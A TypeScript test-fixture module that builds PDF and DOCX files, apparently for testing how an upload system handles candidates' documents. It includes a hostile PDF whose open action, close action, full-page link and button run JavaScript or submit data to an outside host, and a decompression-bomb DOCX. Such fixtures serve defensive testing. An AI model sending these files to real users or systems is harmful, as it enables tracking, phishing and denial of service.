/** Files as candidates, and people with other plans, send them. */
import { crc32, deflateRawSync } from 'node:zlib'

const pdfOf = (objects: readonly string[]): Buffer => {
  let text = '%PDF-1.7\n'
  const offsets = objects.map((object, index) => {
    const at = text.length
    text += `${index + 1} 0 obj\n${object}\nendobj\n`
    return at
  })
  const table = offsets.map((at) => `${String(at).padStart(10, '0')} 00000 n \n`).join('')
  text += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${table}trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${text.length}\n%%EOF`
  return Buffer.from(text, 'latin1')
}

const contentOf = (lines: readonly string[]): string => {
  const drawn = lines.map((line, index) => `BT /F1 20 Tf 60 ${760 - index * 32} Td (${line}) Tj ET`).join('\n')
  return `<< /Length ${drawn.length} >>\nstream\n${drawn}\nendstream`
}

/** A page of text. */
export const pdfWith = (lines: readonly string[]): Buffer =>
  pdfOf([
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>',
    contentOf(lines),
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
  ])

/** It runs a script when it is opened, submits a form, and links to another site from the whole page. */
export const hostilePdf = (line: string, elsewhere: string): Buffer =>
  pdfOf([
    `<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.launchURL\\("${elsewhere}/script", true\\); fetch\\("${elsewhere}/fetch"\\)) >> /AA << /WC << /S /SubmitForm /F (${elsewhere}/submit) >> >> >>`,
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> /Annots [6 0 R 7 0 R] >>',
    contentOf([line]),
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
    `<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << /S /URI /URI (${elsewhere}/link) >> >>`,
    `<< /Type /Annot /Subtype /Widget /FT /Btn /T (b) /Rect [10 10 90 40] /A << /S /JavaScript /JS (app.launchURL\\("${elsewhere}/button"\\)) >> >>`,
  ])

interface ZippedFile {
  readonly name: string
  readonly content: Buffer
}

/** A zip archive, deflated. */
function zipOf(files: readonly ZippedFile[]): Buffer {
  const locals: Buffer[] = []
  const entries: Buffer[] = []
  let at = 0
  for (const { name, content } of files) {
    const packed = deflateRawSync(content)
    const local = Buffer.alloc(30)
    local.writeUInt32LE(0x04034b50, 0)
    local.writeUInt16LE(20, 4)
    local.writeUInt16LE(8, 8)
    local.writeUInt32LE(crc32(content), 14)
    local.writeUInt32LE(packed.length, 18)
    local.writeUInt32LE(content.length, 22)
    local.writeUInt16LE(name.length, 26)
    const entry = Buffer.alloc(46)
    entry.writeUInt32LE(0x02014b50, 0)
    entry.writeUInt16LE(20, 4)
    entry.writeUInt16LE(20, 6)
    local.copy(entry, 10, 8, 28)
    entry.writeUInt16LE(name.length, 28)
    entry.writeUInt32LE(at, 42)
    locals.push(local, Buffer.from(name), packed)
    entries.push(entry, Buffer.from(name))
    at += local.length + name.length + packed.length
  }
  const directory = Buffer.concat(entries)
  const end = Buffer.alloc(22)
  end.writeUInt32LE(0x06054b50, 0)
  end.writeUInt16LE(files.length, 8)
  end.writeUInt16LE(files.length, 10)
  end.writeUInt32LE(directory.length, 12)
  end.writeUInt32LE(at, 16)
  return Buffer.concat([...locals, directory, end])
}

const word = 'http://schemas.openxmlformats.org/wordprocessingml/2006/main'

/** `body`: of WordprocessingML. */
const docxOf = (body: string): Buffer =>
  zipOf([
    {
      name: '[Content_Types].xml',
      content: Buffer.from(
        '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>',
      ),
    },
    {
      name: 'word/document.xml',
      content: Buffer.from(`<?xml version="1.0"?><w:document xmlns:w="${word}"><w:body>${body}</w:body></w:document>`),
    },
  ])

export const docxWith = (paragraphs: readonly string[]): Buffer =>
  docxOf(paragraphs.map((text) => `<w:p><w:r><w:t>${text}</w:t></w:r></w:p>`).join(''))

/** A few kilobytes that become 60 MB. */
export const docxBomb = (): Buffer => docxOf(`<w:p><w:r><w:t>${'bomb '.repeat(12_000_000)}</w:t></w:r></w:p>`)
